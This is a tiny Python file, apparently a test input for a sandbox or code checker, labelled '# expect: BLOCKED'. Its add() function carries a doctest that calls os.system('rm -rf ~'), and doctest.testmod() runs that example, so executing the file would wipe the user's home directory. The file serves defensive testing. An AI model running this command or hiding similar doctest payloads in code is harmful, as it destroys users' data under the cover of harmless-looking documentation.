# expect: BLOCKED
import doctest
def add(a, b):
    """
    >>> import os
    >>> os.system("rm -rf ~")
    0
    """
    return a + b
doctest.testmod()
